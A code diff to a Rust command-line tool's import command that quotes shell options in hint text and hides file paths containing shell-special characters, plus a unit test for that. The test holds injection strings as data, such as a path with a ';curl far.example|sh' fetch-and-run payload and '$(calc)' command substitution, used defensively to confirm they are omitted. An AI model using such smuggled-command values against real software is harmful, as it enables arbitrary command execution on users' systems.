@@ -38,11 +38,7 @@ pub(crate) async fn run(session: &CommandSession, what: ImportArguments) -> Resu
     chosen.check(&report)?;
     let mut failures = Vec::new();
     if !what.dry_run {
-        for server in report
-            .servers
-            .iter_mut()
-            .filter(|server| matches!(server.status, ImportStatus::New | ImportStatus::Conflict))
-        {
+        for server in report.servers.iter_mut().filter(|server| is_importable(server)) {
             let names = chosen.values(server);
             let taken = server.take_values(&names, &|name| std::env::var(name).ok());
             server.notes.extend(taken.unset.iter().map(|name| unset_variable_note(name)));
@@ -178,14 +174,21 @@ impl ChosenSources {
     }
 }
 
-/// Returns a line about how to take a value from its source.
+/// Returns a line about how to take a value from its source. The user may copy the options to a shell, so they are
+/// quoted, and a path with a sign that some shell reads in another way is omitted.
 fn value_source_text(name: &str, source: &ValueSource) -> String {
     match source {
         ValueSource::Environment(text) => {
-            let variables = text.variables().join(" --take-env ");
-            format!("{name} can be taken from your environment with --take-env {variables}")
+            let options =
+                text.variables().into_iter().map(|variable| format!("--take-env {}", shell_words::quote(variable)));
+            let options = options.collect::<Vec<_>>().join(" ");
+            format!("{name:?} can be taken from your environment with {options}")
         }
-        ValueSource::File { path, .. } => format!("{name} can be taken from its file with --take-file {path}"),
+        ValueSource::File { path, .. } => {
+            let is_plain = |c: char| c.is_alphanumeric() || "-_./\\:~@+, ".contains(c);
+            let path = if path.chars().all(is_plain) { shell_words::quote(path) } else { "FILE".into() };
+            format!("{name:?} can be taken from its file with --take-file {path}")
+        }
     }
 }
 
@@ -259,8 +262,12 @@ fn found_server_json(server: &FoundServer) -> Value {
     Value::Object(object)
 }
 
+fn is_importable(server: &FoundServer) -> bool {
+    matches!(server.status, ImportStatus::New | ImportStatus::Conflict)
+}
+
 /// Formats the servers that were found in other apps as readable text, grouped by file. `failed` is the number of
-/// servers that could not be imported.
+/// servers that could not be imported. Only a dry run lists the sources from which an import can take values.
 fn import_report_text(report: &ScanReport, dry_run: bool, failed: usize) -> String {
     let mut text = String::new();
     for file in &report.files {
@@ -278,20 +285,38 @@ fn import_report_text(report: &ScanReport, dry_run: bool, failed: usize) -> Stri
             for note in &server.notes {
                 text.push_str(&format!("    {}\n", escape_line(&note.text)));
             }
-            for (name, source) in &server.sources {
+            for (name, source) in server.sources.iter().filter(|_| dry_run && is_importable(server)) {
                 text.push_str(&format!("    {}\n", escape_line(&value_source_text(name, source))));
             }
         }
     }
-    let count = report
-        .servers
-        .iter()
-        .filter(|server| matches!(server.status, ImportStatus::New | ImportStatus::Conflict))
-        .count();
+    let count = report.servers.iter().filter(|server| is_importable(server)).count();
     let rest = report.servers.len() - count;
     let verb = if dry_run { "to import" } else { "imported, none started" };
     let done = count.saturating_sub(failed);
     let failed = if failed == 0 { String::new() } else { format!("; {failed} failed") };
     text.push_str(&format!("{done} {verb}; {rest} the same or unsupported{failed}\n"));
     text
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn paths_in_hints_are_quoted_or_omitted() {
+        let cases = [
+            ("/home/ann/server.env", "/home/ann/server.env"),
+            ("~/my server.env", "'~/my server.env'"),
+            ("a;curl far.example|sh", "FILE"),
+            ("a';curl far.example;'b", "FILE"),
+            ("a&calc", "FILE"),
+            ("$(calc)", "FILE"),
+        ];
+        for (path, shown) in cases {
+            let source = ValueSource::File { path: path.to_owned(), value: String::from("hunter2").into() };
+            let expected = format!("\"KEY\" can be taken from its file with --take-file {shown}");
+            assert_eq!(value_source_text("KEY", &source), expected);
+        }
+    }
 }
